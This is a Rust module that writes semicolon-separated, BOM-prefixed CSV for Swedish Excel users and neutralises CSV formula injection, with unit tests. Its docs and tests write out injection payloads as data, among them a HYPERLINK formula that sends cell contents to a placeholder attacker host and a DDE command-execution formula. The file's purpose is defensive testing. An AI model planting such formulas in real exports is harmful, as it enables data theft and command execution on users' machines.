//! CSV that opens in Excel as Swedish teams have it: UTF-8 with a byte order mark (so å, ä, ö
//! survive) and `;` between fields (Excel's list separator in the Swedish locale).
//!
//! Cells come from directory data that anyone with write access to a municipality's AD can
//! set, and Excel evaluates a cell that begins with `=`, `+`, `-` or `@` (or a tab or carriage
//! return before one) as a formula: `=HYPERLINK(...)`, `=cmd|' /C calc'!A0` (CSV injection).
//! Every cell is defused as OWASP recommends, by prefixing such a cell with `'`, so Excel
//! shows it as text, with one deliberate exception: a cell made only of digits, spaces and
//! `+ - ( ) . , /` is written as it is. Phone numbers (`+46 42 10 10 10`) and negative numbers
//! are common in these reports, and such a cell cannot hold a function call, a cell
//! reference or a DDE command, which all need letters (or `!`, `|`, `:`); at worst Excel
//! computes `-2+3`. Everything else that begins with a trigger, `=1+1` included, gets the `'`.

use super::error::ReportError;
use std::borrow::Cow;
use std::path::Path;

/// Writes `rows` under `header` to `path`, every cell defused (see the module docs).
pub fn write<Row, Cell>(path: &Path, header: &[&str], rows: impl IntoIterator<Item = Row>) -> Result<(), ReportError>
where
    Row: IntoIterator<Item = Cell>,
    Cell: AsRef<str>,
{
    let csv_err = |source| ReportError::Csv { path: path.to_path_buf(), source };
    if let Some(dir) = path.parent() {
        std::fs::create_dir_all(dir).map_err(ReportError::io(path))?;
    }
    let mut buf: Vec<u8> = b"\xEF\xBB\xBF".to_vec();
    {
        let mut w = csv::WriterBuilder::new().delimiter(b';').from_writer(&mut buf);
        let mut record = |cells: &mut dyn Iterator<Item = &str>| -> Result<(), csv::Error> {
            for cell in cells {
                w.write_field(defuse(cell).as_bytes())?;
            }
            w.write_record(None::<&[u8]>)
        };
        record(&mut header.iter().copied()).map_err(csv_err)?;
        for row in rows {
            let cells: Vec<Cell> = row.into_iter().collect();
            record(&mut cells.iter().map(AsRef::as_ref)).map_err(csv_err)?;
        }
        w.flush().map_err(ReportError::io(path))?;
    }
    std::fs::write(path, buf).map_err(ReportError::io(path))
}

/// A cell as Excel may safely evaluate it: `'` before one that Excel would read as a formula,
/// except a plain phone number or number (digits, spaces and `+ - ( ) . , /` only).
pub fn defuse(cell: &str) -> Cow<'_, str> {
    let trigger = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
    let plain_number =
        cell.chars().any(|c| c.is_ascii_digit()) && cell.chars().all(|c| c.is_ascii_digit() || " +-().,/".contains(c));
    if trigger && !plain_number { Cow::Owned(format!("'{cell}")) } else { Cow::Borrowed(cell) }
}

#[cfg(test)]
mod tests {
    use super::defuse;

    #[test]
    fn bom_semicolons_and_quoting() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("r.csv");
        super::write(&path, &["namn", "not"], [["Öberg, Åsa", "a;b \"c\""]]).unwrap();
        let bytes = std::fs::read(&path).unwrap();
        assert!(bytes.starts_with(b"\xEF\xBB\xBF"));
        assert_eq!(String::from_utf8_lossy(&bytes[3..]), "namn;not\nÖberg, Åsa;\"a;b \"\"c\"\"\"\n");
    }

    #[test]
    fn a_file_that_cannot_be_written_is_named() {
        let dir = tempfile::tempdir().unwrap();
        let blocker = dir.path().join("not-a-folder");
        std::fs::write(&blocker, "").unwrap();
        let path = blocker.join("r.csv");
        let e = super::write(&path, &["a"], [["1"]]).unwrap_err();
        assert!(matches!(e, super::ReportError::Io { .. }));
        assert!(e.to_string().starts_with(&format!("{}: ", path.display())), "{e}");
    }

    #[test]
    fn formulas_get_a_quote_and_phone_numbers_stay() {
        for formula in [
            "=1+1",
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Klicka\")",
            "=cmd|' /C calc'!A0",
            "+SUM(A1:A9)",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1,2)",
            "\t=1+1",
            "\r=1+1",
            "+",
            "-",
            "=",
        ] {
            assert_eq!(defuse(formula), format!("'{formula}"), "{formula:?}");
        }
        for kept in
            ["+46 42 10 10 10", "+46 (0)42-10 10 10", "-5", "-1.5", "042-10 10 10", "Öberg, Åsa", "", "a=b", "'"]
        {
            assert_eq!(defuse(kept), kept, "{kept:?}");
        }
    }

    #[test]
    fn written_cells_are_defused() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("r.csv");
        let row = vec!["=HYPERLINK(\"http://x\";\"y\")".to_string(), "+46 42 10 10 10".into(), "@x".into()];
        super::write(&path, &["a", "b", "c"], [row]).unwrap();
        let text = String::from_utf8(std::fs::read(&path).unwrap()[3..].to_vec()).unwrap();
        assert_eq!(text, "a;b;c\n\"'=HYPERLINK(\"\"http://x\"\";\"\"y\"\")\";+46 42 10 10 10;'@x\n");
    }
}
